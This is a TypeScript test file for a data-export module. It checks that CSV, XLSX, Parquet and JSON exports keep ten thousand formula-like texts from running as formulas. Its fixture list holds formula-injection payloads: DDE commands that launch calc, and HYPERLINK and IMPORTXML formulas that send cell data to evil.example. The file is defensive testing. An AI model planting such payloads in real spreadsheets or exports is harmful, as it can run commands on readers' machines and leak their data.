import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects, parquetSchema } from 'hyparquet';
import Papa from 'papaparse';
import readExcelFile from 'read-excel-file/node';
import { afterAll, describe, expect, it } from 'vitest';
import { csvCell, startsFormula } from '#app/domain/export/csv.ts';
import { encoded, newPassed } from '#app/domain/export/encode.server.ts';
import type { Cell, Column, ExportFormat } from '#app/domain/export/export.ts';
import { CellTooLong, xlsxBytes } from '#app/domain/export/xlsx.server.ts';
import { entriesOf, entryBytes } from '../../../public/verify-export.mjs';

const run = promisify(execFile);
const folder = await mkdtemp(join(tmpdir(), 'untolled-formulas-'));
afterAll(() => rm(folder, { recursive: true }));

const SIGNS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const BLANKS = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00A0',
  '\u3000',
  '\u200B',
  '\uFEFF',
  '\0 ',
  ' \t\u2003',
  '\u2028',
];
const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|'/c calc'!A1",
  'HYPERLINK("http://evil.example/?"&A1,"look")',
  'DDE("cmd";"/C calc";"!A0")',
  "MSEXCEL|'\\..\\..\\calc.exe'!''",
  '2+5+cmd|"/C calc"!A0',
  '"quoted"',
  "'apostrophe",
  'a,b;c\td',
  'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
  'two\nlines',
];

/** Ten thousand texts, each of which some spreadsheet may take for a formula: every sign behind every blank before every body, and more of them with numbers. */
const cells: string[] = [];
for (let round = 0; cells.length < 10_000; round += 1)
  for (const blank of BLANKS)
    for (const sign of SIGNS)
      for (const body of BODIES) if (cells.length < 10_000) cells.push(`${blank}${sign}${body}${round || ''}`);

const columns: Column[] = [
  { name: 'one', type: 'text' },
  { name: 'two', type: 'text' },
  { name: 'number', type: 'integer' },
  { name: 'day', type: 'day' },
  { name: 'at', type: 'instant' },
  { name: 'is', type: 'boolean' },
];
const rows: Cell[][] = Array.from({ length: 5_000 }, (_, at) => [
  cells[at * 2] ?? '',
  cells[at * 2 + 1] ?? '',
  at === 7 ? null : -at - 1,
  '2026-11-22',
  '2026-11-22T18:00:00.000Z',
  at % 2 === 0,
]);

async function* batches() {
  for (let at = 0; at < rows.length; at += 700)
    yield rows
      .slice(at, at + 700)
      .map((row) => JSON.stringify(Object.fromEntries(columns.map(({ name }, n) => [name, row[n]]))));
}
const inFormat = async (format: ExportFormat) => {
  const bytes: Buffer[] = [];
  for await (const piece of encoded(format, columns, batches(), newPassed({ by: null, of: [] }))) bytes.push(piece);
  return Buffer.concat(bytes);
};
const fileOf = async (name: string, bytes: Buffer) => {
  await writeFile(join(folder, name), bytes);
  return join(folder, name);
};
const texts = (list: unknown[][]) => list.map(([one, two]) => [one, two]);

describe('ten thousand texts that look like formulas', () => {
  it('are ten thousand, and each is one', () => {
    expect(new Set(cells).size).toBe(10_000);
    expect(cells.filter((cell) => !startsFormula(cell))).toEqual([]);
    expect(['a=b', '', '1', "'=1", '(555) 0100', 'Ana-María', '#1'].filter(startsFormula)).toEqual([]);
  });

  it('start no formula in CSV for spreadsheets, whoever reads it, and differ by the apostrophe alone', async () => {
    const text = (await inFormat('csv')).toString('utf8');
    const byParse = parse(text, { from: 2, bom: false }) as string[][];
    const byPapa = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n' });
    expect(byPapa.errors).toEqual([]);
    expect(byParse).toEqual(byPapa.data.slice(1, -1));
    expect(
      texts(byParse)
        .flat()
        .filter((cell) => startsFormula(String(cell))),
    ).toEqual([]);
    expect(texts(byParse).flat()).toEqual(cells.map((cell) => `'${cell}`));
    expect(byParse[3]?.slice(2)).toEqual(['-4', '2026-11-22', '2026-11-22T18:00:00.000Z', 'false']);
  });

  it('stand unchanged in strict CSV, JSON and lines of JSON', async () => {
    const strict = (await inFormat('csv-strict')).toString('utf8');
    expect(texts(parse(strict, { from: 2, bom: false }) as string[][]).flat()).toEqual(cells);
    const json = JSON.parse((await inFormat('json')).toString('utf8')) as Record<string, Cell>[];
    const lines = (await inFormat('ndjson'))
      .toString('utf8')
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(json.map((row) => columns.map(({ name }) => row[name]))).toEqual(rows);
    expect(lines).toEqual(json);
  });

  it('are strings in a workbook, of which no cell is a formula', async () => {
    const path = await fileOf('formulas.xlsx', await inFormat('xlsx'));
    const xml = (await entryBytes(path, (await entriesOf(path)).get('xl/worksheets/sheet1.xml'))).toString('utf8');
    expect(xml.match(/<f[\s>/]/g)).toBeNull();
    expect(xml.match(/t="inlineStr"/g)).toHaveLength(10_000 + columns.length);
    const [sheet] = await readExcelFile(path, { trim: false });
    const read = sheet?.data ?? [];
    expect(read).toHaveLength(5_001);
    expect(texts(read.slice(1)).flat().map(String)).toEqual(cells);
    expect(read[4]?.slice(2)).toEqual([-4, new Date('2026-11-22'), new Date('2026-11-22T18:00:00Z'), false]);
    expect(read[8]?.[2]).toBeNull();
  });

  it('are texts of typed columns in Parquet', async () => {
    const file = await asyncBufferFromFile(await fileOf('formulas.parquet', await inFormat('parquet')));
    const metadata = await parquetMetadataAsync(file);
    const types = parquetSchema(metadata).children.map(({ element }) => [
      element.name,
      element.type,
      element.converted_type,
    ]);
    expect(types).toEqual([
      ['one', 'BYTE_ARRAY', 'UTF8'],
      ['two', 'BYTE_ARRAY', 'UTF8'],
      ['number', 'INT64', undefined],
      ['day', 'INT32', 'DATE'],
      ['at', 'INT64', 'TIMESTAMP_MILLIS'],
      ['is', 'BOOLEAN', undefined],
    ]);
    const read = await parquetReadObjects({ file });
    // This reader takes a byte order mark off every text.
    expect(read.flatMap(({ one, two }) => [one, two])).toEqual(cells.map((cell) => cell.replace(/^\uFEFF/, '')));
    expect(read[3]).toMatchObject({
      number: -4n,
      day: new Date('2026-11-22'),
      at: new Date('2026-11-22T18:00:00Z'),
      is: false,
    });
    expect(read[7]?.number).toBeNull();
  });

  it('stay texts when LibreOffice opens them', async (test) => {
    const office = await run('soffice', ['--version']).catch(() => null);
    if (!office) return test.skip('LibreOffice (soffice) is not installed');
    for (const name of ['formulas.xlsx', 'formulas.csv']) {
      const path = await fileOf(name, await inFormat(name.endsWith('csv') ? 'csv' : 'xlsx'));
      await run('soffice', [
        '--headless',
        `-env:UserInstallation=file://${folder}/office`,
        '--convert-to',
        'fods',
        '--outdir',
        folder,
        path,
      ]);
      const opened = await readFile(join(folder, 'formulas.fods'), 'utf8');
      expect(opened).toContain('<table:table-cell');
      expect(opened.match(/table:formula=/g)).toBeNull();
    }
  }, 60_000);
});

describe('a workbook', () => {
  it('begins another sheet where one is full, each with its header', async () => {
    async function* few() {
      yield [['a'], ['b'], ['c']];
      yield [['d'], ['e']];
    }
    const bytes: Buffer[] = [];
    for await (const piece of xlsxBytes([{ name: 'n', type: 'text' }], few(), 3)) bytes.push(piece);
    const sheets = await readExcelFile(Buffer.concat(bytes));
    expect(sheets.map(({ sheet, data }) => [sheet, data.flat()])).toEqual([
      ['Rows 1', ['n', 'a', 'b']],
      ['Rows 2', ['n', 'c', 'd']],
      ['Rows 3', ['n', 'e']],
    ]);
  });

  it('refuses a text that no cell holds, and one that reads like an escape comes back as it was', async () => {
    const cellsOf = async (text: string) => {
      async function* one() {
        yield [[text]];
      }
      const bytes = await buffer(xlsxBytes([{ name: 'n', type: 'text' }], one()));
      return (await readExcelFile(bytes))[0]?.data[1];
    };
    await expect(cellsOf('x'.repeat(32_768))).rejects.toThrow(CellTooLong);
    expect(await cellsOf('x'.repeat(32_767))).toHaveLength(1);
    expect(await cellsOf('_x0041_ \0')).toEqual(['_x0041_ \0']);
  });
});

it('a cell of CSV stands in quotes where it must', () => {
  expect(['a', 'a"b', 'a,b', ' a', 'a ', 'a\nb', null, -1, true].map((cell) => csvCell(cell, true))).toEqual([
    'a',
    '"a""b"',
    '"a,b"',
    '" a"',
    '"a "',
    '"a\nb"',
    '',
    '-1',
    'true',
  ]);
});
